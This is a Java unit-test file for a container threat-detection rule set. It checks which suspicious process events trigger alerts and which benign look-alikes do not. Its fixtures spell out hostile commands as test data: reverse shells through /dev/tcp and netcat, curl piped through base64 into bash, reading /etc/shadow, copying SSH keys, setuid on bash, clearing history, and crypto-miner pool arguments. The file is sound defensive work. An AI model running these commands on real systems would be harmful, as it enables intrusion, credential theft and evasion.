package dev.vigil.rules;

import static dev.vigil.rules.DefaultRulesFixture.assertFires;
import static dev.vigil.rules.DefaultRulesFixture.assertQuiet;
import static dev.vigil.rules.DefaultRulesFixture.assertQuietOnHost;
import static dev.vigil.rules.DefaultRulesFixture.fires;
import static dev.vigil.rules.DefaultRulesFixture.names;
import static dev.vigil.rules.DefaultRulesFixture.proc;
import static dev.vigil.rules.DefaultRulesFixture.run;
import static org.assertj.core.api.Assertions.assertThat;

import dev.vigil.event.ExecOrigin;
import dev.vigil.event.ProcessExec;
import java.util.Set;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.api.Named;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** The process rules of the built-in file, against the ProcessExec events the Docker sensors produce. */
class DefaultRulesProcessTest {

  static final String NETWORK_TOOL = "Suspicious network tool launched in container";
  static final String NETCAT_RCE = "Netcat remote code execution in container";
  static final String REMOTE_COPY = "Remote file copy tool launched in container";
  static final String PORT_SCANNER = "Port scanner launched in container";
  static final String MINER = "Crypto miner launched in container";
  static final String MINING_POOL = "Mining pool arguments in container";
  static final String TERMINAL_SHELL = "Terminal shell in container";
  static final String SERVER_SHELL = "Shell spawned by server process in container";
  static final String PACKAGE_MANAGER = "Package manager launched in container";
  static final String DROPPED_BINARY = "Drop and execute new binary in container";
  static final String REVERSE_SHELL = "Reverse shell in container";
  static final String TMP_EXEC = "Execution from temporary directory in container";
  static final String REVERSE_SHELL_CMDLINE = "Reverse shell command line in container";
  static final String BASE64_SHELL = "Base64 payload piped to shell in container";
  static final String NAMESPACE_TOOL = "Namespace or mount tool run in container";
  static final String SETUID = "Setuid or setgid bit set in container";
  static final String HISTORY_CLEARED = "Shell history or logs cleared in container";
  static final String SENSITIVE_ARGS = "Sensitive file read by command in container";
  static final String CRONTAB = "Cron job installed in container";
  static final String BECAME_ROOT = "Process became root in container";

  /** The process sensor's report that {@code p} changed its real uid from {@code before} to {@code after}. */
  static dev.vigil.event.ProcessChange setuid(dev.vigil.event.ProcessExec p, long before, long after) {
    return new dev.vigil.event.ProcessChange(p.time(), p.container(), "kernel.proc",
        dev.vigil.event.ProcessChange.What.SETUID, before, after, after, p);
  }

  static Stream<Arguments> positives() {
    return Stream.of(
        fires(NETWORK_TOOL, proc("socat", "TCP-LISTEN:9001,fork", "TCP:10.0.0.5:22").dockerExec().build())
            .args("socat relay via docker exec"),
        fires(NETWORK_TOOL, proc("tcpdump", "-i", "eth0", "-w", "/tmp/cap.pcap").build())
            .args("tcpdump in the container's tree"),
        fires(NETCAT_RCE, proc("nc", "-e", "/bin/sh", "10.0.0.99", "4444").build()).args("nc -e /bin/sh"),
        fires(NETCAT_RCE, proc("ncat", "10.0.0.99", "4444", "--sh-exec", "/bin/bash").build())
            .args("ncat --sh-exec"),
        fires(NETCAT_RCE, proc("nc", "-lvp", "4444", "-e").build()).args("nc ... -e at the end"),
        fires(REMOTE_COPY, proc("wget", "-q", "--spider", "http://localhost:8080/health").dockerExec().build())
            .args("the healthcheck's wget, run by docker exec"),
        fires(REMOTE_COPY, proc("curl", "-fsSL", "http://203.0.113.7/x.sh", "-o", "/tmp/x.sh")
            .parent("sh", "sh -c curl -fsSL http://203.0.113.7/x.sh -o /tmp/x.sh").build())
            .args("curl below a shell"),
        fires(PORT_SCANNER, proc("nmap", "-sS", "-p-", "10.0.0.0/24").dockerExec().build()).args("nmap -sS"),
        fires(PORT_SCANNER, proc("masscan", "10.0.0.0/8", "-p80,443").build()).args("masscan"),
        fires(MINER, proc("xmrig", "--config=/opt/c.json").build()).args("xmrig"),
        fires(MINER, proc("/var/tmp/kinsing").exe("/var/tmp/kinsing").build()).args("kinsing"),
        fires(MINING_POOL, proc("./kworkerds", "-o", "stratum+tcp://pool.supportxmr.com:3333", "-u", "44AFFq5k",
            "-p", "x").build()).args("renamed miner with stratum URL"),
        fires(MINING_POOL, proc("./helper", "--donate-level", "1", "--coin=monero").build())
            .args("xmrig options under another name"),
        fires(TERMINAL_SHELL, proc("bash").dockerExec().tty("pts/0").build()).args("docker exec -it bash"),
        fires(TERMINAL_SHELL, proc("/bin/sh").dockerExec().tty("pts").build())
            .args("docker exec -it /bin/sh (events sensor tty)"),
        fires(SERVER_SHELL, proc("sh", "-c", "id; uname -a").parent("nginx", "nginx: worker process").build())
            .args("sh under nginx"),
        fires(SERVER_SHELL, proc("bash", "-c", "cat /etc/passwd").parent("java", "java -jar /app/app.jar")
            .build()).args("bash under java"),
        fires(PACKAGE_MANAGER, proc("apt-get", "install", "-y", "nmap").dockerExec().build())
            .args("apt-get install"),
        fires(PACKAGE_MANAGER, proc("pip", "install", "requests").build()).args("pip install"),
        fires(DROPPED_BINARY, proc("/usr/local/bin/xmr", "-B").exe("/usr/local/bin/xmr")
            .details(true, "pipe", "pipe", "").build()).args("binary from the writable layer"),
        fires(REVERSE_SHELL, proc("bash", "-i").exe("/bin/bash").details(false, "ipv4", "ipv4", "10.0.0.99:4444")
            .build()).args("bash with a TCP socket on stdin/stdout"),
        fires(REVERSE_SHELL, proc("sh").exe("/bin/sh").details(false, "pipe", "ipv6", "[2001:db8::9]:4444")
            .parent("python3", "python3 -c import socket,subprocess,os").build()).args("sh with stdout on IPv6"),
        fires(TMP_EXEC, proc("/tmp/.x/payload", "--daemon").build()).args("argv[0] in /tmp"),
        fires(TMP_EXEC, proc("./run").exe("/dev/shm/run").build()).args("exe path in /dev/shm"),
        fires(REVERSE_SHELL_CMDLINE, proc("bash", "-c", "bash -i >& /dev/tcp/10.0.0.99/4444 0>&1").build())
            .args("bash /dev/tcp redirection"),
        fires(REVERSE_SHELL_CMDLINE, proc("sh", "-c",
            "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 10.0.0.99 4444 >/tmp/f").build())
            .args("mkfifo + nc"),
        fires(REVERSE_SHELL_CMDLINE, proc("sh", "-i").parent("nc", "nc -l -p 4444 -e /bin/sh -i").build())
            .args("interactive sh under nc"),
        fires(BASE64_SHELL, proc("sh", "-c", "echo aWQ7IHVuYW1lIC1h | base64 -d | sh").build())
            .args("base64 -d | sh"),
        fires(BASE64_SHELL, proc("bash", "-c", "curl -s http://203.0.113.7/p | base64 --decode |bash").build())
            .args("base64 --decode |bash"),
        fires(NAMESPACE_TOOL, proc("nsenter", "--target", "1", "--mount", "--uts", "--ipc", "--net", "--pid",
            "--", "bash").dockerExec().build()).args("nsenter into pid 1"),
        fires(NAMESPACE_TOOL, proc("mount", "/dev/sda1", "/mnt").build()).args("mount a host disk"),
        fires(SETUID, proc("chmod", "u+s", "/bin/bash").build()).args("chmod u+s"),
        fires(SETUID, proc("chmod", "4755", "/tmp/rootsh").build()).args("chmod 4755"),
        fires(SETUID, proc("chmod", "-R", "2775", "/srv/share").build()).args("chmod -R 2775 (setgid)"),
        fires(SETUID, proc("chmod", "+s", "/usr/bin/find").build()).args("chmod +s"),
        fires(HISTORY_CLEARED, proc("rm", "-f", "/root/.bash_history").build()).args("rm .bash_history"),
        fires(HISTORY_CLEARED, proc("truncate", "-s", "0", "/var/log/auth.log").build()).args("truncate a log"),
        fires(HISTORY_CLEARED, proc("bash", "-c", "history -c").build()).args("history -c"),
        fires(HISTORY_CLEARED, proc("sh", "-c", "export HISTFILE=/dev/null").build()).args("HISTFILE=/dev/null"),
        fires(HISTORY_CLEARED, proc("ln", "-sf", "/dev/null", "/root/.bash_history").build())
            .args("history linked to /dev/null"),
        fires(SENSITIVE_ARGS, proc("cat", "/etc/shadow").dockerExec().build()).args("cat /etc/shadow"),
        fires(SENSITIVE_ARGS, proc("cp", "/root/.ssh/id_ed25519", "/tmp/k").build()).args("copy a private key"),
        fires(CRONTAB, proc("crontab", "/tmp/job.cron").build()).args("crontab FILE"),
        fires(CRONTAB, proc("crontab", "-e").dockerExec().build()).args("crontab -e"),
        fires(BECAME_ROOT, setuid(proc("/tmp/escalate").exe("/tmp/escalate").user(0, "root")
            .parent("sh", "sh").build(), 1000, 0)).args("setuid-root binary run by uid 1000"));
  }

  static Stream<Arguments> benign() {
    return Stream.of(
        fires(BECAME_ROOT, setuid(proc("su", "-s", "/bin/sh", "nobody").parent("sh", "sh").build(), 0, 65534))
            .args("root dropping to nobody"),
        fires(BECAME_ROOT, setuid(proc("nginx").parent("sh", "sh").build(), 0, 0)).args("root staying root"),
        fires(BECAME_ROOT, setuid(proc("app").user(1000, "app").parent("sh", "sh").build(), 1000, 1000))
            .args("a user re-asserting its own uid"),
        fires(NETWORK_TOOL, proc("ncdu", "/var").build()).args("ncdu is not nc"),
        fires(NETWORK_TOOL, proc("ping", "-c", "1", "db").build()).args("ping"),
        fires(NETCAT_RCE, proc("nc", "-z", "-w", "3", "db", "5432").build()).args("nc -z port probe"),
        fires(NETCAT_RCE, proc("socat", "-", "EXEC:/bin/sh").build()).args("not a netcat"),
        fires(REMOTE_COPY, proc("cat", "notes-about-curl.txt").build()).args("cat notes-about-curl.txt"),
        fires(REMOTE_COPY, proc("wget", "-q", "--spider", "http://localhost:8080/health").healthcheck().build())
            .args("HEALTHCHECK wget"),
        fires(PORT_SCANNER, proc("mapfile-tool", "scan").build()).args("name only resembles"),
        fires(MINER, proc("minio", "server", "/data").build()).args("minio"),
        fires(MINING_POOL, proc("java", "-Dserver.port=8080", "-jar", "/app/app.jar").build())
            .args("java with a port"),
        fires(TERMINAL_SHELL, proc("bash").dockerExec().build()).args("docker exec bash without tty"),
        fires(TERMINAL_SHELL, proc("sh").tty("pts/0").orphan().build()).args("docker run -it sh (entrypoint)"),
        fires(TERMINAL_SHELL, proc("python3").dockerExec().tty("pts/0").build()).args("docker exec -it python3"),
        fires(SERVER_SHELL, proc("sh", "-c", "ls").parent("sh", "sh /docker-entrypoint.sh").build())
            .args("sh under sh"),
        fires(SERVER_SHELL, proc("ls", "/var/www").parent("nginx", "nginx: worker process").build())
            .args("non-shell under nginx"),
        fires(PACKAGE_MANAGER, proc("dpkg-query", "-W").build()).args("dpkg-query"),
        fires(DROPPED_BINARY, proc("/usr/sbin/nginx", "-g", "daemon off;").exe("/usr/sbin/nginx")
            .details(false, "file", "pipe", "").build()).args("binary from the image"),
        fires(DROPPED_BINARY, proc("/usr/local/bin/app").exe("/usr/local/bin/app").build())
            .args("layer unknown (no kernel sensor)"),
        fires(REVERSE_SHELL, proc("bash").exe("/bin/bash").details(false, "tty", "tty", "").build())
            .args("interactive bash on a terminal"),
        fires(REVERSE_SHELL, proc("python3", "server.py").details(false, "ipv4", "ipv4", "10.0.0.7:5000").build())
            .args("inetd-style server, not a shell"),
        fires(TMP_EXEC, proc("/usr/bin/python3", "/tmp/job.py").build()).args("interpreter from /usr/bin"),
        fires(TMP_EXEC, proc("/usr/bin/tmpreaper", "24h", "/tmp").build()).args("/usr/bin/tmp..."),
        fires(REVERSE_SHELL_CMDLINE, proc("sh", "-i").parent("bash", "bash").build()).args("sh -i under bash"),
        fires(REVERSE_SHELL_CMDLINE, proc("ls", "-l", "/dev/").build()).args("ls /dev/"),
        fires(BASE64_SHELL, proc("sh", "-c", "base64 -d /run/secrets/cert.b64 > /tmp/cert.pem").build())
            .args("base64 -d to a file"),
        fires(NAMESPACE_TOOL, proc("mountpoint", "-q", "/data").build()).args("mountpoint"),
        fires(NAMESPACE_TOOL, proc("findmnt").build()).args("findmnt"),
        fires(SETUID, proc("chmod", "755", "/app/run.sh").build()).args("chmod 755"),
        fires(SETUID, proc("chmod", "0644", "/etc/app.conf").build()).args("chmod 0644"),
        fires(SETUID, proc("chmod", "1777", "/tmp/shared").build()).args("chmod 1777 (sticky only)"),
        fires(SETUID, proc("chmod", "+x", "/app/run.sh").build()).args("chmod +x"),
        fires(SETUID, proc("chown", "u+s", "/x").build()).args("not chmod"),
        fires(HISTORY_CLEARED, proc("rm", "-rf", "/tmp/build-cache").build()).args("rm in /tmp"),
        fires(HISTORY_CLEARED, proc("cat", "/root/.bash_history").build()).args("reading history"),
        fires(SENSITIVE_ARGS, proc("cat", "/etc/passwd").build()).args("cat /etc/passwd"),
        fires(SENSITIVE_ARGS, proc("sh", "-c", "cat /etc/shadow").build()).args("the shell around cat"),
        fires(CRONTAB, proc("crontab", "-l").build()).args("crontab -l"));
  }

  @ParameterizedTest(name = "{0}: {1}")
  @MethodSource("positives")
  void positive_firesTheRule(String rule, DefaultRulesFixture.Case c) {
    assertFires(c);
  }

  @ParameterizedTest(name = "{0}: {1}")
  @MethodSource("benign")
  void benignLookAlike_doesNotFire(String rule, DefaultRulesFixture.Case c) {
    assertQuiet(c);
  }

  @ParameterizedTest(name = "{0}: {1}")
  @MethodSource("positives")
  void hostProcess_firesNoRule(String rule, DefaultRulesFixture.Case c) {
    assertQuietOnHost(c);
  }

  @Test
  void healthcheckWget_andItsChildren_stayQuiet_butTheSameWgetByDockerExecAlerts() {
    String[] wget = {"wget", "-q", "--spider", "http://localhost:8080/health"};
    ProcessExec probe = proc(wget).healthcheck().orphan().build();
    ProcessExec underProbeShell = proc(wget).healthcheck()
        .parent("sh", "/bin/sh -c wget -q --spider http://localhost:8080/health").build();
    ProcessExec childOfWget = proc("ssl_client", "3").healthcheck()
        .parent("wget", "wget -q --spider https://localhost:8443/health")
        .parent("sh", "/bin/sh -c wget -q --spider https://localhost:8443/health").build();
    ProcessExec curlInProbe = proc("curl", "-fsS", "http://localhost:8080/health").healthcheck()
        .parent("wget", "wget -q -O- http://localhost:8080/health").build();

    assertThat(names(run(probe))).isEmpty();
    assertThat(names(run(underProbeShell))).isEmpty();
    assertThat(names(run(childOfWget))).isEmpty();
    assertThat(names(run(curlInProbe))).isEmpty();
    assertThat(names(run(proc(wget).dockerExec().build()))).contains(REMOTE_COPY);
  }

  @Test
  void healthcheckProcesses_fireNoProcessRuleAtAll() {
    Set<String> fired = positives().map(a -> (DefaultRulesFixture.Case) ((Named<?>) a.get()[1]).getPayload())
        .filter(c -> c.event() instanceof ProcessExec)
        .map(c -> healthcheckVariant((ProcessExec) c.event()))
        .flatMap(e -> names(run(e)).stream()).collect(Collectors.toSet());
    assertThat(fired).isEmpty();
  }

  @Test
  void catNotesAboutCurl_firesNothing() {
    assertThat(names(run(proc("cat", "notes-about-curl.txt").dockerExec().build()))).isEmpty();
  }

  @Test
  void terminalShell_needsTtyAndDockerExec() {
    assertThat(names(run(proc("sh").dockerExec().tty("pts/0").build()))).contains(TERMINAL_SHELL);
    assertThat(names(run(proc("sh").dockerExec().build()))).doesNotContain(TERMINAL_SHELL);
  }

  @Test
  void serverShell_needsAServerParent() {
    assertThat(names(run(proc("sh", "-c", "id").parent("nginx", "nginx: worker process").build())))
        .contains(SERVER_SHELL);
    assertThat(names(run(proc("sh", "-c", "id").parent("sh", "sh -c ./start.sh").build())))
        .doesNotContain(SERVER_SHELL);
  }

  @Test
  void setuid_symbolicAndOctalModesFire_plainModesDoNot() {
    assertThat(names(run(proc("chmod", "u+s", "/bin/bash").build()))).contains(SETUID);
    assertThat(names(run(proc("chmod", "4755", "/bin/bash").build()))).contains(SETUID);
    assertThat(names(run(proc("chmod", "755", "/bin/bash").build()))).doesNotContain(SETUID);
  }

  private static ProcessExec healthcheckVariant(ProcessExec p) {
    return new ProcessExec(p.time(), p.container(), p.sensor(), p.pid(), p.ppid(), p.name(), p.exePath(), p.args(),
        p.uid(), p.user(), p.tty(), ExecOrigin.HEALTHCHECK, "", p.ancestors(), p.details());
  }
}
